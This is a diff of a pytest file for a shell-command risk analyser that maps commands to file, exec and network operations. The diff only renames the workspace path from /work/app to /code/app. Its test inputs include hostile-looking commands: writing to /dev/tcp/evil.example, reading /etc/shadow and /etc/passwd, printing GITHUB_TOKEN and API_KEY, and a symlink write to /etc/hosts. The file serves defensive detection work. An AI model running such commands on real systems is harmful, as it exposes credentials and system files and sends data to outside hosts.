@@ -173,7 +173,7 @@ def test_a_command_comes_with_what_it_touches() -> None:
     found = operations("cp a.txt /etc/b")
     assert [(o.kind, o.resource, o.owner) for o in found] == [
         (OperationKind.COMMAND_EXECUTE, "cp a.txt /etc/b", None),
-        (OperationKind.FS_READ, "/work/app/a.txt", 0),
+        (OperationKind.FS_READ, "/code/app/a.txt", 0),
         (OperationKind.FS_WRITE, "/etc/b", 0),
     ]
     assert found[0].argv == ("cp", "a.txt", "/etc/b")
@@ -183,48 +183,48 @@ def test_a_command_comes_with_what_it_touches() -> None:
 @pytest.mark.parametrize(
     ("line", "expected"),
     [
-        ("cat a b", [("fs.read", "/work/app/a"), ("fs.read", "/work/app/b")]),
+        ("cat a b", [("fs.read", "/code/app/a"), ("fs.read", "/code/app/b")]),
         ("cat -", []),
-        ("cat ../x", [("fs.read", "/work/x")]),
-        ("cd src && cat x", [("fs.read", "/work/app/src/x")]),
+        ("cat ../x", [("fs.read", "/code/x")]),
+        ("cd src && cat x", [("fs.read", "/code/app/src/x")]),
         ("cd $X && cat x", [("fs.read", f"{UNKNOWN}/x")]),
         ('cat "$F"', [("fs.read", UNKNOWN)]),
-        ("git -C src show HEAD:x", [("fs.read", "/work/app/x"), ("fs.read", "/work/app/src/x")]),
+        ("git -C src show HEAD:x", [("fs.read", "/code/app/x"), ("fs.read", "/code/app/src/x")]),
         ("git show HEAD", []),
-        ("git diff --no-index a b", [("fs.read", "/work/app/a"), ("fs.read", "/work/app/b")]),
+        ("git diff --no-index a b", [("fs.read", "/code/app/a"), ("fs.read", "/code/app/b")]),
         ("env -C /etc cat shadow", [("fs.read", "/etc/shadow")]),
         ('env -C "$X" cat y', [("fs.read", f"{UNKNOWN}/y")]),
-        ("sed -i s/a/b/ x", [("fs.read", "/work/app/x"), ("fs.write", "/work/app/x")]),
-        ("sed 's/a/b/w out' x", [("fs.read", "/work/app/x"), ("fs.write", "/work/app/out")]),
-        ("sed 'r in' x", [("fs.read", "/work/app/x"), ("fs.read", "/work/app/in")]),
-        ("sort -o y x", [("fs.write", "/work/app/y"), ("fs.read", "/work/app/x")]),
-        ("cp a", [("fs.write", "/work/app/a")]),
-        ("cp -t d a b", [("fs.write", "/work/app/d"), ("fs.read", "/work/app/a"), ("fs.read", "/work/app/b")]),
-        ("tar xf a.tgz -C d", [("fs.read", "/work/app/d/a.tgz"), ("fs.write", "/work/app/d")]),
-        ("tar cf a.tgz d", [("fs.write", "/work/app/a.tgz"), ("fs.read", "/work/app/d")]),
-        ("dd if=a of=b", [("fs.read", "/work/app/a"), ("fs.write", "/work/app/b")]),
+        ("sed -i s/a/b/ x", [("fs.read", "/code/app/x"), ("fs.write", "/code/app/x")]),
+        ("sed 's/a/b/w out' x", [("fs.read", "/code/app/x"), ("fs.write", "/code/app/out")]),
+        ("sed 'r in' x", [("fs.read", "/code/app/x"), ("fs.read", "/code/app/in")]),
+        ("sort -o y x", [("fs.write", "/code/app/y"), ("fs.read", "/code/app/x")]),
+        ("cp a", [("fs.write", "/code/app/a")]),
+        ("cp -t d a b", [("fs.write", "/code/app/d"), ("fs.read", "/code/app/a"), ("fs.read", "/code/app/b")]),
+        ("tar xf a.tgz -C d", [("fs.read", "/code/app/d/a.tgz"), ("fs.write", "/code/app/d")]),
+        ("tar cf a.tgz d", [("fs.write", "/code/app/a.tgz"), ("fs.read", "/code/app/d")]),
+        ("dd if=a of=b", [("fs.read", "/code/app/a"), ("fs.write", "/code/app/b")]),
         ("curl https://Example.com:8443/x", [("net.connect", "example.com:8443")]),
         ("curl example.com/x", [("net.connect", "example.com")]),
         ("curl file:///etc/passwd", [("fs.read", "/etc/passwd")]),
-        ("curl -d @x h", [("fs.read", "/work/app/x"), ("net.connect", "h")]),
+        ("curl -d @x h", [("fs.read", "/code/app/x"), ("net.connect", "h")]),
         ("curl -d @- h", [("net.connect", "h")]),
         ("curl -d a=1 h", [("net.connect", "h")]),
-        ("curl -F f=@x h", [("fs.read", "/work/app/x"), ("net.connect", "h")]),
+        ("curl -F f=@x h", [("fs.read", "/code/app/x"), ("net.connect", "h")]),
         ('curl "$U"', [("net.connect", UNKNOWN)]),
-        ("wget https://h/d/x", [("net.connect", "h"), ("fs.write", "/work/app/x")]),
-        ("wget https://[::1]:80/x", [("net.connect", "[::1]"), ("fs.write", "/work/app/x")]),
+        ("wget https://h/d/x", [("net.connect", "h"), ("fs.write", "/code/app/x")]),
+        ("wget https://[::1]:80/x", [("net.connect", "[::1]"), ("fs.write", "/code/app/x")]),
         ("ping user@host", [("net.connect", "host")]),
-        ("scp a u@h:b", [("fs.read", "/work/app/a"), ("net.connect", "h")]),
-        ("scp h:b a", [("net.connect", "h"), ("fs.write", "/work/app/a")]),
+        ("scp a u@h:b", [("fs.read", "/code/app/a"), ("net.connect", "h")]),
+        ("scp h:b a", [("net.connect", "h"), ("fs.write", "/code/app/a")]),
         ("git push", [("net.connect", UNKNOWN)]),
-        ("./x y", [("fs.exec", "/work/app/./x".replace("/./", "/"))]),
+        ("./x y", [("fs.exec", "/code/app/./x".replace("/./", "/"))]),
         ("/tmp/x", [("fs.exec", "/tmp/x")]),
-        ("/usr/bin/ls x", [("fs.read", "/work/app/x")]),
-        ("bash x.sh", [("fs.exec", "/work/app/x.sh")]),
-        ("find a b -newer c", [("fs.read", "/work/app/a"), ("fs.read", "/work/app/b"), ("fs.read", "/work/app/c")]),
-        ("find . -fprint x", [("fs.read", "/work/app"), ("fs.write", "/work/app/x")]),
-        ("rg foo", [("fs.read", "/work/app")]),
-        ("rg foo src", [("fs.read", "/work/app/src")]),
+        ("/usr/bin/ls x", [("fs.read", "/code/app/x")]),
+        ("bash x.sh", [("fs.exec", "/code/app/x.sh")]),
+        ("find a b -newer c", [("fs.read", "/code/app/a"), ("fs.read", "/code/app/b"), ("fs.read", "/code/app/c")]),
+        ("find . -fprint x", [("fs.read", "/code/app"), ("fs.write", "/code/app/x")]),
+        ("rg foo", [("fs.read", "/code/app")]),
+        ("rg foo src", [("fs.read", "/code/app/src")]),
         ("printenv HOME", []),
         ("printenv GITHUB_TOKEN", [("fs.read", "$GITHUB_TOKEN")]),
         ('echo "$API_KEY" $API_KEY', [("fs.read", "$API_KEY")]),
@@ -238,14 +238,14 @@ def test_arguments_are_touched_by_their_role(line: str, expected: list[tuple[str
 @pytest.mark.parametrize(
     ("line", "expected"),
     [
-        ("echo x > a", [("fs.write", "/work/app/a")]),
-        ("echo x >> a", [("fs.write", "/work/app/a")]),
-        ("echo x >| a", [("fs.write", "/work/app/a")]),
-        ("echo x &> a", [("fs.write", "/work/app/a")]),
-        ("echo x 5> a", [("fs.write", "/work/app/a")]),
-        ("sort < a", [("fs.read", "/work/app/a")]),
-        ("ls 2>&1 >/dev/null 2>/dev/stderr </dev/null", [("fs.read", "/work/app")][:0]),
-        ("> a", [("fs.write", "/work/app/a")]),
+        ("echo x > a", [("fs.write", "/code/app/a")]),
+        ("echo x >> a", [("fs.write", "/code/app/a")]),
+        ("echo x >| a", [("fs.write", "/code/app/a")]),
+        ("echo x &> a", [("fs.write", "/code/app/a")]),
+        ("echo x 5> a", [("fs.write", "/code/app/a")]),
+        ("sort < a", [("fs.read", "/code/app/a")]),
+        ("ls 2>&1 >/dev/null 2>/dev/stderr </dev/null", [("fs.read", "/code/app")][:0]),
+        ("> a", [("fs.write", "/code/app/a")]),
         ("echo x > /dev/tcp/evil.example/80", [("net.connect", "evil.example")]),
     ],
 )
@@ -586,10 +586,10 @@ def test_without_a_workspace_a_write_is_dangerous() -> None:
 
 def test_a_link_is_followed() -> None:
     place = Place(
-        Facts(home="/home/u", resolve=lambda p: p.replace("/work/app/out", "/etc")), "/work/app", ("/work/app",)
+        Facts(home="/home/u", resolve=lambda p: p.replace("/code/app/out", "/etc")), "/code/app", ("/code/app",)
     )
     (write,) = [o for o in operations("echo x > out/hosts", place) if o.kind is OperationKind.FS_WRITE]
-    assert (write.resource, write.target, write.tier) == ("/work/app/out/hosts", "/etc/hosts", Tier.DANGEROUS)
+    assert (write.resource, write.target, write.tier) == ("/code/app/out/hosts", "/etc/hosts", Tier.DANGEROUS)
 
 
 # Broad and narrow deletions.
@@ -605,8 +605,8 @@ def test_a_link_is_followed() -> None:
         "./*",
         ".",
         "..",
-        "/work/app",
-        "/work",
+        "/code/app",
+        "/code",
         "/etc",
         "/usr/lib",
         "$X",
